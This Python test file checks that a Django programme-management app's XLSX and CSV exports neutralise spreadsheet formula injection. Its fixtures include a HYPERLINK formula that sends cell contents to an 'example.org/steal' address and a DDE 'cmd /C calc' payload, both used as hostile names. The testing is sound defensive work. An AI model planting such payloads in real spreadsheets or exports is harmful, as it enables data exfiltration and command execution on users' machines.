"""No formula injection (issue 14, build 3): every workbook and CSV made from a programme whose
name, conclusion and people's names start with a formula character holds those as text."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.test import Client
from django.utils import translation

from kaderasi.accounts.models import Role
from kaderasi.cadres.models import Cadre
from kaderasi.care.models import Mother
from kaderasi.conftest import built_once_per_module
from kaderasi.demo.pandes import seed_pandes
from kaderasi.evaluation.presentation import evaluation_sections
from kaderasi.evaluation.rendering import render_workbook
from kaderasi.evaluation.results import programme_evaluation_for
from kaderasi.interop.exports import _csv_value, programme_csv_files, programme_workbook
from kaderasi.programmes.models import Programme
from kaderasi.reports.documents import render_programme_report_xlsx
from kaderasi.reports.evaluation_input import programme_evaluation
from kaderasi.reports.models import ProgrammeReport
from kaderasi.reports.tests.conftest import NOW, REFERENCES
from kaderasi.tests import factories as f

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://example.org/steal?x="&A1,"Klik")'
CONCLUSION = "=1+1"
CADRE_NAME = "+62 Sari"
MOTHER_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile_programme_seed() -> int:
    programme = seed_pandes(now=NOW)
    programme.name = NAME
    programme.save()
    ProgrammeReport.objects.update_or_create(
        programme=programme, defaults={"conclusion_en": CONCLUSION, "conclusion_id": CONCLUSION}
    )
    cadre = Cadre.objects.filter(programme=programme).first()
    cadre.name = CADRE_NAME
    cadre.save()
    mother = Mother.objects.filter(programme=programme).first()
    mother.name = MOTHER_NAME
    mother.save()
    return programme.pk


_seeded = built_once_per_module(_hostile_programme_seed)


@pytest.fixture
def hostile_programme(_seeded, db):
    """The Pandes programme with hostile names, seeded once for the module (what a test writes
    is undone)."""
    return Programme.objects.get(pk=_seeded)


def _formulas(content: bytes) -> list[str]:
    """Every formula cell in the workbook: openpyxl's formula cells and the raw <f> elements."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                cells.append(name)
    return cells


def _texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell
        for sheet in book
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    }


def test_the_report_workbook_named_and_pseudonymised_has_no_formula_cell(hostile_programme):
    with translation.override("en"):
        evaluation = programme_evaluation(hostile_programme)
    for pseudonymised in (True, False):
        content = render_programme_report_xlsx(
            programme=hostile_programme,
            evaluation=evaluation,
            now=NOW,
            language="en",
            references=REFERENCES,
            pseudonymised=pseudonymised,
        )

        assert _formulas(content) == []
        assert {NAME, CONCLUSION} <= _texts(content)


def test_the_evaluation_workbook_has_no_formula_cell(hostile_programme):
    admin = f.UserFactory(role=Role.ADMIN, is_superuser=True)
    with translation.override("en"):
        evaluation, _partial = programme_evaluation_for(admin, hostile_programme)
        content = render_workbook(evaluation_sections(evaluation, hostile_programme))

    assert _formulas(content) == []


def test_the_evaluation_workbook_download_has_no_formula_cell(hostile_programme):
    client = Client()
    client.force_login(f.UserFactory(role=Role.ADMIN, is_superuser=True))

    response = client.get(f"/programmes/{hostile_programme.slug}/evaluation.xlsx")

    assert response.status_code == 200
    assert _formulas(response.content) == []


def test_the_programme_export_workbook_has_no_formula_cell(hostile_programme):
    content = programme_workbook(
        hostile_programme,
        cadres=Cadre.objects.filter(programme=hostile_programme),
        mothers=Mother.objects.filter(programme=hostile_programme),
    )

    assert _formulas(content) == []
    assert {NAME, CADRE_NAME, MOTHER_NAME} <= _texts(content)


def test_the_programme_export_csv_escapes_every_cell_a_spreadsheet_would_run(hostile_programme):
    files = programme_csv_files(
        hostile_programme,
        cadres=Cadre.objects.filter(programme=hostile_programme),
        mothers=Mother.objects.filter(programme=hostile_programme),
    )
    text = "".join(content.decode("utf-8-sig") for content in files.values())

    assert "'" + NAME.replace('"', '""') in text
    assert "'" + CADRE_NAME in text
    assert "'" + MOTHER_NAME in text
    cells = [
        cell
        for content in files.values()
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))
        for cell in row
    ]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")] == []


def test_a_csv_text_cell_starting_with_a_formula_character_gets_an_apostrophe():
    assert [_csv_value(value) for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
    ]


def test_a_csv_number_stays_a_number_even_negative():
    assert [_csv_value(value) for value in (-3, -2.5, 4.0, "Sari-Dewi")] == [
        "-3",
        "-2.5",
        "4",
        "Sari-Dewi",
    ]


def test_the_escaped_csv_reads_back_the_text_as_it_was(hostile_programme, tmp_path):
    from kaderasi.interop.exports import write_csv_folder
    from kaderasi.interop.workbook import read_csv_folder

    files = programme_csv_files(
        hostile_programme,
        cadres=Cadre.objects.filter(programme=hostile_programme),
        mothers=Mother.objects.filter(programme=hostile_programme),
    )
    write_csv_folder(tmp_path, files)

    raw = read_csv_folder(tmp_path)

    rows = [row for sheet in raw.sheets.values() for row in sheet.rows]
    values = {value for row in rows for value in row.values.values()}
    assert {NAME, CADRE_NAME, MOTHER_NAME} <= values
